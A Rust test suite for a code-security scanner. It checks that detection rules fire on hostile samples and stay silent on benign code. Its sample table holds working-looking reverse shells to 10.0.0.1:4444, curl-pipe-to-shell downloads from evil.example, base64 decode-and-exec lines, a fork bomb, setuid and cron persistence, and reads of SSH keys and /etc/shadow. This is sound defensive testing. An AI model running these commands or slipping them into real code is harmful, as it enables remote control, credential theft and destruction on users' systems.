//! Tests of the scanner: every rule fires on a sample at the right line, and common innocent code does not trip it.

use std::os::unix::fs::PermissionsExt;

use super::{COMPILED, LANGS, Severity, TEXT_RULES, long_runs, scan_bytes, scan_dir, scan_text};

/// (file, text, rule, line): `rule` must report `line` when `text` is scanned as `file`.
const TRUE_POSITIVES: &[(&str, &str, &str, u32)] = &[
    // Python.
    ("app.py", "import sys\n\nresult = eval(request.args['expr'])\n", "dynamic_eval", 3),
    ("app.py", "def run(code):\n    exec(code)\n", "dynamic_eval", 2),
    ("app.py", "c = compile(source, '<x>', 'exec')\n", "dynamic_eval", 1),
    ("app.py", "x = 1\nsubprocess.run(cmd, shell=True)\n", "shell_true", 2),
    ("app.py", "import os\nos.system('ls ' + path)\n", "os_system", 2),
    ("app.py", "out = os.popen(cmd).read()\n", "os_system", 1),
    ("app.py", "import json\nimport ctypes\n", "ctypes", 2),
    ("app.py", "lib = ctypes.CDLL('libc.so.6')\n", "ctypes", 1),
    ("app.py", "obj = pickle.loads(request.data)\n", "unsafe_deserialization", 1),
    ("app.py", "mod = __import__(name)\n", "dynamic_import", 1),
    ("app.py", "mod = importlib.import_module(plugin)\n", "dynamic_import", 1),
    ("app.py", "import base64\nexec(base64.b64decode(PAYLOAD))\n", "decode_exec", 2),
    ("app.py", "exec(zlib.decompress(base64.b64decode(x)))\n", "decode_exec", 1),
    ("app.py", "exec(marshal.loads(blob))\n", "decode_exec", 1),
    ("app.py", "s = socket.socket()\ns.connect((h, p))\nos.dup2(s.fileno(), 0)\n", "reverse_shell", 3),
    ("app.py", "import pty\npty.spawn(\"/bin/bash\")\n", "reverse_shell", 2),
    ("app.py", "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", "credential_path", 1),
    ("app.py", "\n\nshadow = open('/etc/shadow').read()\n", "credential_path", 3),
    ("app.py", "creds = Path.home() / '.aws/credentials'\n", "credential_path", 1),
    ("app.py", "p = Path.home() / '.ssh'\n", "credential_path", 1),
    ("app.py", "exec(urlopen(url).read())\n", "download_exec", 1),
    ("app.py", "pool = 'stratum+tcp://pool.example.com:3333'\n", "miner", 1),
    // JavaScript and TypeScript.
    ("index.js", "const x = 1;\nconst r = eval(userInput);\n", "dynamic_eval", 2),
    ("index.js", "const f = new Function('a', body);\n", "dynamic_eval", 1),
    ("index.ts", "vm.runInNewContext(code, sandbox);\n", "dynamic_eval", 1),
    ("index.mjs", "const s = new vm.Script(src);\n", "dynamic_eval", 1),
    ("index.js", "const { exec } = require('child_process');\n", "child_process", 1),
    ("index.ts", "import { spawn } from \"node:child_process\";\n", "child_process", 1),
    ("index.js", "const b = process.binding('spawn_sync');\n", "native_binding", 1),
    ("index.js", "eval(atob(payload));\n", "decode_exec", 1),
    ("index.js", "new Function(Buffer.from(p, 'base64').toString())();\n", "decode_exec", 1),
    ("index.js", "const m = require(name);\n", "dynamic_require", 1),
    ("index.js", "execSync('curl -s http://x.example/a.sh | sh');\n", "download_exec", 1),
    ("index.js", "fs.readFileSync(os.homedir() + '/.ssh/id_ed25519');\n", "credential_path", 1),
    // Shell.
    ("run.sh", "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "reverse_shell", 2),
    ("run.sh", "nc -e /bin/sh 10.0.0.1 4444\n", "reverse_shell", 1),
    (
        "run.sh",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f\n",
        "reverse_shell",
        1,
    ),
    ("run.sh", "socat TCP:10.0.0.1:4444 EXEC:/bin/bash\n", "reverse_shell", 1),
    ("run.sh", "set -e\ncurl -fsSL https://evil.example/x.sh | bash\n", "download_exec", 2),
    ("run.sh", "wget -qO- http://evil.example/y | sudo sh\n", "download_exec", 1),
    ("run.sh", "sh -c \"$(curl -fsSL https://evil.example/z)\"\n", "download_exec", 1),
    ("run.sh", "bash <(curl -s https://evil.example/z)\n", "download_exec", 1),
    ("run.sh", "echo ZWNobyBoaQ== | base64 -d | sh\n", "decode_exec", 1),
    ("run.sh", "eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"\n", "decode_exec", 1),
    ("run.sh", ":(){ :|:& };:\n", "fork_bomb", 1),
    ("run.sh", "chmod u+s /tmp/x\n", "setuid_chmod", 1),
    ("run.sh", "cp sh /tmp/sh\nchmod 4755 /tmp/sh\n", "setuid_chmod", 2),
    ("run.sh", "nohup ./worker &\n", "persistence", 1),
    ("run.sh", "(crontab -l; echo '* * * * * x') | crontab -\n", "persistence", 1),
    ("run.sh", "tar czf /tmp/k.tgz ~/.ssh\n", "credential_path", 1),
    ("run.sh", "./xmrig --donate-level 1\n", "miner", 1),
    // Shebangs decide the language of a file without an extension.
    ("bin/tool", "#!/usr/bin/env python3\nos.system(cmd)\n", "os_system", 2),
    ("bin/tool", "#!/usr/bin/env -S node --no-warnings\nconst r = eval(x);\n", "dynamic_eval", 2),
    ("bin/tool", "#!/bin/bash -e\ncurl https://evil.example | sh\n", "download_exec", 2),
    // Any text.
    ("pool.yaml", "threads: 2\nurl: stratum+tcp://pool.example.com:3333\n", "miner", 2),
    ("NOTES.txt", "uses XMRig under the hood\n", "miner", 1),
    (".env", "DEBUG=1\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n", "secret", 2),
    ("config.json", "{\"token\": \"ghp_abcdefghijklmnopqrstuvwxyz0123456789\"}\n", "secret", 1),
    (
        "key.pem",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk=\n-----END OPENSSH PRIVATE KEY-----\n",
        "secret",
        1,
    ),
    ("app.py", "SLACK = 'xoxb-123456789012-abcdefghijkl'\n", "secret", 1),
    ("app.py", "\nopenai.api_key = 'sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD'\n", "secret", 2),
    ("settings.toml", "google = \"AIzaSyA1234567890abcdefghijklmnopqrstuv\"\n", "secret", 1),
    ("pay.js", "const stripe = Stripe('sk_live_abcdefghijklmnopqrstuvwx');\n", "secret", 1),
    // package.json install scripts.
    (
        "package.json",
        "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"postinstall\": \"node setup.js\"\n  }\n}\n",
        "npm_install_script",
        4,
    ),
    ("node_modules/evil/package.json", "{\"scripts\": {\"preinstall\": \"sh x.sh\"}}", "npm_install_script", 1),
];

fn fires(file: &str, text: &str, rule: &str, line: u32) -> bool {
    scan_text(file, text).iter().any(|f| f.rule == rule && f.line == line)
}

#[test]
fn every_rule_fires_on_its_sample_at_the_right_line() {
    let missed: Vec<String> = TRUE_POSITIVES
        .iter()
        .filter(|(file, text, rule, line)| !fires(file, text, rule, *line))
        .map(|(file, text, rule, line)| {
            format!("{rule} at {file}:{line} in {text:?}; found {:?}", scan_text(file, text))
        })
        .collect();
    assert!(missed.is_empty(), "rules that did not fire:\n{}", missed.join("\n"));
}

#[test]
fn every_text_rule_has_a_sample_and_compiles() {
    for rule in TEXT_RULES.iter() {
        assert!(TRUE_POSITIVES.iter().any(|(_, _, id, _)| *id == rule.id), "no sample for `{}`", rule.id);
    }
    for (lang, compiled) in LANGS.iter().zip(COMPILED.iter()) {
        let expected = TEXT_RULES.iter().filter(|r| r.langs.contains(lang)).count();
        assert_eq!(compiled.rules.len(), expected, "every {lang:?} pattern compiles");
        assert_eq!(compiled.set.len(), expected);
    }
}

/// (file, text): innocent code that must produce no finding at all.
const FALSE_POSITIVES: &[(&str, &str)] = &[
    ("train.py", "model.eval()\nwith torch.no_grad():\n    out = model(x)\nmodel.train()\n"),
    ("app.py", "import re\nPATTERN = re.compile(r'\\d+')\n"),
    ("app.py", "import subprocess\nsubprocess.run(['ls', '-l'], check=True)\nsubprocess.Popen(['git', 'status'])\n"),
    ("app.py", "def evaluate(x):\n    return x\n\nscore = evaluate(1)  # evaluate the model\n"),
    ("app.py", "class Expr:\n    def eval(self, env):\n        return self.value\n"),
    ("app.py", "exec(\"print('literal')\")\nvalue = eval('1 + 1')\n"),
    ("app.py", "TOKEN = \"dGVzdA==\"\nSALT = b64encode(b'abc')\n"),
    ("app.py", "from sklearn import datasets  # sk-learn\ntask = 'ask-about-the-weather'\n"),
    ("app.py", "path = os.path.join(base, 'data')\nos.makedirs(path, exist_ok=True)\n"),
    ("app.py", "import socket\nhost = socket.gethostname()\n"),
    ("README.md", "Connect with ssh to the host and keep your ~/.ssh keys safe.\nRead /etc/shadow docs.\n"),
    ("README.md", "Install uv first:\n\n    curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
    ("index.js", "const fs = require('fs');\nconst lib = require('./lib');\nconst v = obj.eval(1);\n"),
    ("index.js", "import express from 'express';\nconst app = express();\napp.listen(3000);\n"),
    ("index.js", "function evaluate(a) { return a; }\nconsole.log(evaluate(2));\n"),
    ("run.sh", "#!/bin/sh\nset -e\nchmod 755 run.sh\nchmod +x tool\npython3 server.py \"$@\"\n"),
    ("run.sh", "curl -fsSL -o data.json https://example.com/data.json\n"),
    ("requirements.txt", "mcp==1.9.4\nhttpx>=0.27\n"),
    (
        "package.json",
        "{\n  \"name\": \"x\",\n  \"scripts\": {\"start\": \"node index.js\", \"test\": \"node --test\"}\n}\n",
    ),
];

#[test]
fn innocent_code_produces_no_findings() {
    let noisy: Vec<String> = FALSE_POSITIVES
        .iter()
        .filter_map(|(file, text)| {
            let findings = scan_text(file, text);
            (!findings.is_empty()).then(|| format!("{file}: {findings:?}"))
        })
        .collect();
    assert!(noisy.is_empty(), "false positives:\n{}", noisy.join("\n"));
}

#[test]
fn secrets_are_redacted_in_every_excerpt() {
    let key = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
    let text = format!("import os\nos.system('curl -H \"Authorization: token {key}\" https://x.example | sh')\n");
    let findings = scan_text("app.py", &text);
    let rules: Vec<&str> = findings.iter().map(|f| f.rule).collect();
    for rule in ["os_system", "download_exec", "secret"] {
        assert!(rules.contains(&rule), "{rule} fires: {findings:?}");
    }
    for finding in &findings {
        assert!(!finding.excerpt.contains(key), "the key leaks in {finding:?}");
        assert!(finding.excerpt.contains("ghp_****[redacted]"), "the redaction is visible in {finding:?}");
    }
}

#[test]
fn excerpts_are_short_and_printable() {
    let line = format!("{}\u{1b}[31m os.system(x) {}", "a = 1; ".repeat(40), "b = 2; ".repeat(40));
    let findings = scan_text("app.py", &line);
    let finding = findings.iter().find(|f| f.rule == "os_system").expect("os_system fires");
    assert!(finding.excerpt.chars().count() <= 122, "{}", finding.excerpt);
    assert!(finding.excerpt.contains("os.system(x)"), "the window shows the match: {}", finding.excerpt);
    assert!(!finding.excerpt.contains('\u{1b}'), "control characters are escaped: {}", finding.excerpt);
}

#[test]
fn findings_per_rule_and_file_are_capped() {
    let text = "os.system(a)\n".repeat(25);
    let findings: Vec<_> = scan_text("app.py", &text).into_iter().filter(|f| f.rule == "os_system").collect();
    assert_eq!(findings.len(), 10);
    assert_eq!(findings.iter().map(|f| f.line).collect::<Vec<_>>(), (1..=10).collect::<Vec<_>>());
    assert!(findings[9].message.contains("15 more lines"), "{}", findings[9].message);
}

#[test]
fn large_encoded_blobs_are_flagged_and_small_ones_are_not() {
    let blob = "QUJD".repeat(400);
    let text = format!("import base64\n\nDATA = '{blob}'\n");
    let findings = scan_text("app.py", &text);
    assert!(
        findings.iter().any(|f| f.rule == "encoded_blob" && f.line == 3 && f.severity == Severity::Warning),
        "{findings:?}"
    );
    let escaped = "\\x90".repeat(300);
    assert!(fires("app.js", &format!("const sc = \"{escaped}\";\n"), "encoded_blob", 1));
    let short = "QUJD".repeat(100);
    assert!(scan_text("app.py", &format!("DATA = '{short}'\n")).is_empty());
}

#[test]
fn long_lines_in_javascript_are_marked_minified() {
    let text = format!("// bundle\n{}\n", "var a=1;".repeat(1000));
    let findings = scan_text("dist/app.js", &text);
    assert!(
        findings.iter().any(|f| f.rule == "minified" && f.line == 2 && f.severity == Severity::Info),
        "{findings:?}"
    );
}

#[test]
fn native_binaries_are_critical_by_magic_or_name() {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend_from_slice(&[0; 100]);
    let mut pe = b"MZ".to_vec();
    pe.resize(0x80, 0);
    pe[0x3c] = 0x40;
    pe[0x40..0x44].copy_from_slice(b"PE\0\0");
    let fat_macho = [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2];
    let java_class = [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52];
    for (file, bytes) in [
        ("lib/helper", &elf[..]),
        ("tool.bin", &pe[..]),
        ("x", &fat_macho[..]),
        ("mod.so", b"text"),
        ("libx.so.1", b""),
    ] {
        let findings = scan_bytes(file, bytes);
        assert!(
            findings.iter().any(|f| f.rule == "native_executable" && f.severity == Severity::Critical && f.line == 0),
            "{file}: {findings:?}"
        );
    }
    assert!(scan_bytes("Main.class", &java_class).is_empty(), "a Java class file is not Mach-O");
    assert!(scan_bytes("notes.txt", b"MZ is a prefix of some words").is_empty());
}

#[test]
fn pth_files_and_bytecode_are_flagged_whole() {
    let findings = scan_text("site/evil.pth", "import os; os.system('id')\n");
    assert!(findings.iter().any(|f| f.rule == "pth_file" && f.severity == Severity::Critical && f.line == 0));
    let findings = scan_bytes("__pycache__/x.cpython-311.pyc", &[0x6f, 0x0d, 0x0d, 0x0a, 0, 0]);
    assert!(findings.iter().any(|f| f.rule == "compiled_bytecode" && f.severity == Severity::Warning));
}

#[test]
fn binary_files_skip_the_text_rules() {
    let mut bytes = b"os.system(x)\n".to_vec();
    bytes.push(0);
    assert!(scan_bytes("image.png", &bytes).is_empty());
}

#[test]
fn severities_order_from_info_to_critical_and_serialize_lowercase() {
    assert!(
        Severity::Info < Severity::Warning && Severity::Warning < Severity::High && Severity::High < Severity::Critical
    );
    assert_eq!(serde_json::to_string(&Severity::Critical).unwrap(), "\"critical\"");
}

#[test]
fn a_directory_scan_reports_relative_paths_skips_large_text_and_blocks_on_critical() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("src/util")).unwrap();
    std::fs::write(root.join("server_config.json"), "{}").unwrap();
    std::fs::write(root.join("src/util/net.py"), "import os\n\nos.system(cmd)\n").unwrap();
    std::fs::write(root.join("install.sh"), "curl https://evil.example | sh\n").unwrap();
    // Over 2 MiB: its text rules are skipped, but its ELF magic is still seen.
    let mut big = b"\x7fELF".to_vec();
    big.extend_from_slice(b"os.system(x)\n".repeat(200_000).as_slice());
    std::fs::write(root.join("blob.bin"), &big).unwrap();
    std::fs::set_permissions(root.join("blob.bin"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", root.join("passwd")).unwrap();

    let report = scan_dir(root).unwrap();
    assert_eq!(report.files_scanned, 4);
    let small = ["server_config.json", "src/util/net.py", "install.sh"]
        .iter()
        .map(|f| std::fs::metadata(root.join(f)).unwrap().len())
        .sum::<u64>();
    assert_eq!(report.bytes_scanned, small + 8 * 1024);
    let found: Vec<(&str, &str, u32)> = report.findings.iter().map(|f| (f.file.as_str(), f.rule, f.line)).collect();
    assert_eq!(
        found,
        [
            ("blob.bin", "native_executable", 0),
            ("blob.bin", "not_scanned", 0),
            ("install.sh", "download_exec", 1),
            ("passwd", "symlink", 0),
            ("src/util/net.py", "os_system", 3),
        ]
    );
    let blocking: Vec<&str> = report.blocking().map(|f| f.file.as_str()).collect();
    assert_eq!(blocking, ["blob.bin", "install.sh"]);
    let summary = report.summary();
    assert!(summary.contains("scanned 4 files"), "{summary}");
    assert!(summary.contains("2 critical, 1 high, 1 warning, 1 info"), "{summary}");
    assert!(summary.contains("download_exec in install.sh:1"), "{summary}");
}

#[test]
fn a_clean_directory_summarises_as_no_findings() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("server.py"), "print('hi')\n").unwrap();
    let report = scan_dir(dir.path()).unwrap();
    assert_eq!(report.blocking().count(), 0);
    assert_eq!(report.summary(), "scanned 1 file (12 bytes): no findings");
}

#[test]
fn probing_for_long_runs_finds_exactly_what_a_full_scan_finds() {
    // Every run of `min` or more members, found the slow way.
    let naive = |bytes: &[u8], min: usize| {
        let mut runs = Vec::new();
        let mut start = None;
        for (i, &b) in bytes.iter().chain(std::iter::once(&b'.')).enumerate() {
            match (b == b'a', start) {
                (true, None) => start = Some(i),
                (false, Some(s)) => {
                    if i - s >= min {
                        runs.push(s..i);
                    }
                    start = None;
                }
                _ => {}
            }
        }
        runs
    };
    let mut seed: u64 = 7;
    for case in 0..5_000 {
        let len = case % 97;
        let bytes: Vec<u8> = (0..len)
            .map(|_| {
                seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                // Mostly members, so runs of every length occur.
                if (seed >> 33).is_multiple_of(5) { b'.' } else { b'a' }
            })
            .collect();
        for min in 1..12 {
            assert_eq!(
                long_runs(&bytes, min, |b| b == b'a'),
                naive(&bytes, min),
                "{:?} min {min}",
                String::from_utf8_lossy(&bytes)
            );
        }
    }
}
